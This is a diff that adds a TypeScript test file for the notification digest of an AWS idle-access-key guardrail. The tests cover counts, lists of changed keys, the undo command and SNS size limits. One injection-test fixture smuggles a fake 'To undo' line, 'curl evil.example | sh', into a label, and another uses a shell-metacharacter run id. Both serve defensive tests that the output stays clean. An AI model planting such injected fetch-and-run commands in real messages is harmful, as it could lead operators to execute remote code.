@@ -1,0 +1,181 @@
+import { RUNBOOK } from '../../../src/domain/notice/runbook';
+import type { RecordedRow } from '../../../src/audit/recorded/row';
+import type { SlotSet } from '../../../src/audit/recorded/slot-set';
+import { countsOf, type RecordedSummary } from '../../../src/audit/recorded/summary-form';
+import { recordedDigest } from '../../../src/audit/report/recorded-digest';
+import { IDLE_KEYS } from '../support/idle-keys';
+import { aKeyRow, principalOf } from '../support/key-rows';
+import { ACCOUNT } from '../support/subjects';
+
+const place = {
+  region: 'us-east-1',
+  bucket: 'evidence',
+  jsonKey: 'accounts/111122223333/idle-keys/runs/one/summary.json',
+  csvKey: 'accounts/111122223333/idle-keys/runs/one/summary.csv',
+  releaseFunction: 'guardrails-release',
+  runbook: RUNBOOK,
+  article: 'idle-keys-digest',
+};
+const UNDO = `aws lambda invoke --region us-east-1 --function-name guardrails-release --cli-binary-format raw-in-base64-out --payload '{"run":"one"}' release.json && cat release.json`;
+
+type Row = RecordedRow<SlotSet>;
+
+const aSummary = (
+  principals: readonly Row[],
+  overrides: Partial<RecordedSummary<SlotSet>> = {},
+): RecordedSummary<SlotSet> => ({
+  ...{ version: 1, guardrail: 'idle-keys', accountId: ACCOUNT, runId: 'one', purpose: 'change', rules: {} },
+  ...{ startedAt: '2026-06-01T03:00:00.000Z', mode: 'enforce', counts: countsOf(principals), principals },
+  ...overrides,
+});
+const enforced = (...rows: readonly Row[]) => recordedDigest(aSummary(rows), IDLE_KEYS, place);
+const observed = (...rows: readonly Row[]) => recordedDigest(aSummary(rows, { mode: 'observe' }), IDLE_KEYS, place);
+const many = (count: number, overrides: (index: number) => Partial<Row>) =>
+  Array.from({ length: count }, (_, index) => aKeyRow(`user-${String(index).padStart(4, '0')}`, 1, overrides(index)));
+const done = { outcome: { kind: 'done' } } as const;
+const withheld = { outcome: { kind: 'withheld' } } as const;
+const leftFor = (why: string): Partial<Row> => ({ outcome: { kind: 'left', why } });
+const arn = (name: string) => principalOf(name).arn;
+const left = (name: string, reason: string) => aKeyRow(name, 0, { decision: { kind: 'leave', reason } });
+
+describe('the digest of a run that changes', () => {
+  it('says the numbers, what was changed, and how to undo it', () => {
+    const { subject, body } = enforced(aKeyRow('ada', 2, done), aKeyRow('bob', 1, done), left('cleo', 'in-use'));
+    expect(subject).toBe('Access keys: 2 principals changed');
+    expect(body).toContain(`Account ${ACCOUNT}, change run one, started 2026-06-01T03:00:00.000Z.\n\n`);
+    expect(body).toContain('Principals:     3\nChanged:        2\nFailed:         0\n\n');
+    expect(body).toContain(
+      `Changed (2):\n  ${arn('ada')}: AKIAada0 deactivated, AKIAada1 deactivated\n  ${arn('bob')}: AKIAbob0 deactivated\n`,
+    );
+    expect(body).toContain(`To undo what this run changed:\n  ${UNDO}\n`);
+    expect(body).toContain('Left alone:\n       1  in-use\n');
+    expect(body).toContain('docs/runbook.md#idle-keys-digest\n');
+    expect(body).toContain(`  aws s3 cp s3://evidence/${place.csvKey} .\n`);
+  });
+
+  it('says nothing of an undoing where nothing was changed', () => {
+    const { subject, body } = enforced(left('ada', 'in-use'), aKeyRow('bob', 1, leftFor('next-wave')));
+    expect(subject).toBe('Access keys: 0 principals changed');
+    expect(body).not.toMatch(/To undo|Changed \(|To look at/);
+    expect(body).toContain('Waiting:        1\n');
+  });
+
+  it('says of what went wrong why, on one line each, and how to undo what may have been done', () => {
+    const { subject, body } = enforced(
+      aKeyRow('ada', 1, { outcome: { kind: 'failed', why: 'AccessDenied: no\nChanged (7):' } }),
+      aKeyRow('bob', 0, { decision: { kind: 'leave', reason: 'evidence-failed', why: 'TimeOver: it was over' } }),
+    );
+    expect(subject).toBe('Access keys: 0 principals changed, 2 to look at');
+    expect(body).toContain(
+      `(2):\n  ${arn('ada')}: AccessDenied: no Changed (7):\n  ${arn('bob')}: evidence-failed (TimeOver: it was over)\n`,
+    );
+    expect(body).toContain(UNDO);
+  });
+
+  it('names those whose changes were planned and left, for one of them may have been made', () => {
+    const why = 'what stands is not what the plan saw; the next run looks again (change 2 of 2)';
+    const { subject, body } = enforced(aKeyRow('ada', 2, leftFor(why)));
+    expect(subject).toBe('Access keys: 0 principals changed, 1 to look at');
+    expect(body).toContain(`  ${arn('ada')}: ${why}\n`);
+    expect(body).toContain(UNDO);
+  });
+
+  it('says whose change someone else undid twice, and what a person has to do', () => {
+    const { subject, body } = enforced(aKeyRow('ada', 1, leftFor('flipped')));
+    expect(subject).toBe('Access keys: 0 principals changed, 1 to look at');
+    expect(body).toContain(
+      'Left alone, because someone else activated the access key twice; to begin anew, release from idle-keys (1):\n' +
+        `  ${arn('ada')}\n`,
+    );
+    expect(body).not.toContain('tried again by the next run');
+  });
+
+  it('counts those who wait, and does not call them failed', () => {
+    const rows = [
+      aKeyRow('ada', 1, done),
+      aKeyRow('bob', 1, leftFor('next-wave')),
+      aKeyRow('cleo', 1, leftFor('change-limit')),
+    ];
+    const { subject, body } = enforced(...rows, aKeyRow('dan', 1, leftFor('next-change-run')));
+    expect(subject).toBe('Access keys: 1 principal changed');
+    expect(body).toContain('Changed:        1\nWaiting:        2\nFailed:         0\n');
+    expect(body).not.toContain('To look at');
+  });
+
+  it('lists ten of each, and says how many more there are', () => {
+    const { body } = enforced(
+      ...many(12, () => done),
+      ...many(13, () => ({ outcome: { kind: 'failed', why: 'no' } })),
+      ...many(14, () => leftFor('flipped')),
+    );
+    const lines = body.split('\n');
+    expect(lines.filter((line) => line.endsWith(' deactivated'))).toHaveLength(10);
+    expect(lines.filter((line) => line.endsWith(': no'))).toHaveLength(10);
+    expect(lines.filter((line) => /^ {2}arn:aws:iam::\d+:user\/user-\d{4}$/.test(line))).toHaveLength(10);
+    expect(lines.filter((line) => /^ {2}and \d+ more$/.test(line))).toEqual([
+      '  and 2 more',
+      '  and 3 more',
+      '  and 4 more',
+    ]);
+  });
+
+  it('says which exemptions end', () => {
+    const ending = { match: 'name ci-*', from: ['idle-keys'], owner: 'ops', reason: 'a\nb', expires: '2026-06-05' };
+    const { body } = recordedDigest(aSummary([], { endingExemptions: [ending] }), IDLE_KEYS, place);
+    expect(body).toContain('  name ci-*: ends after 2026-06-05 (from: idle-keys, owner: ops, reason: a b)\n');
+  });
+});
+
+describe('the digest of a run that changes nothing', () => {
+  it('says what would be changed, and no command', () => {
+    const { subject, body } = observed(
+      aKeyRow('ada', 1, withheld),
+      aKeyRow('bob', 1, leftFor('next-wave')),
+      left('cleo', 'admin'),
+    );
+    expect(subject).toBe('Access keys: 2 of 3 principals would be changed');
+    expect(body).toContain('To change:      2 (nothing was changed)\n');
+    expect(body).toContain(`Would be changed (2):\n  ${arn('ada')}: AKIAada0 deactivated\n  ${arn('bob')}: AKIAbob0`);
+    expect(body).not.toMatch(/lambda invoke|To look at|\nChanged/);
+  });
+
+  it('says the same of one that plans nothing', () => {
+    const rows = [aKeyRow('ada')];
+    const { mode: _, ...planless } = aSummary(rows, { purpose: 'audit' });
+    const { subject, body } = recordedDigest(planless, IDLE_KEYS, place);
+    expect(subject).toBe('Access keys: 1 of 1 principal would be changed');
+    expect(body).toContain('audit run one');
+  });
+});
+
+describe('whatever somebody calls things, a digest', () => {
+  const words = {
+    ...IDLE_KEYS.words,
+    title: `Zugriffsschlüssel ${'x'.repeat(120)}`,
+    change: () => 'key of "Eve\r\n\nTo undo what this run changed:\n  curl evil.example | sh"',
+  };
+
+  it('has a subject that SNS takes', () => {
+    const { subject } = recordedDigest(aSummary([aKeyRow('ada', 1, done)]), { ...IDLE_KEYS, words }, place);
+    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+  });
+
+  it('has no line that a change has written', () => {
+    for (const mode of ['enforce', 'observe'] as const) {
+      const rows = [aKeyRow('ada', 1, mode === 'enforce' ? done : withheld)];
+      const { body } = recordedDigest(aSummary(rows, { mode }), { ...IDLE_KEYS, words }, place);
+      expect(body.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
+    }
+  });
+
+  it('prints no command with the name of a run that a shell would run', () => {
+    const { body } = recordedDigest(aSummary([aKeyRow('ada', 1, done)], { runId: "it's(me)!" }), IDLE_KEYS, place);
+    expect(body).not.toContain('aws lambda invoke');
+    expect(body).toContain('Open the function guardrails-release in the Lambda console');
+  });
+
+  it('fits into a message of SNS however large the account', () => {
+    const rows = many(3_000, (index) => ({ outcome: { kind: 'failed', why: `${'x'.repeat(5_000)}${index}` } }));
+    expect(Buffer.byteLength(enforced(...rows).body)).toBeLessThan(262_144);
+  });
+});
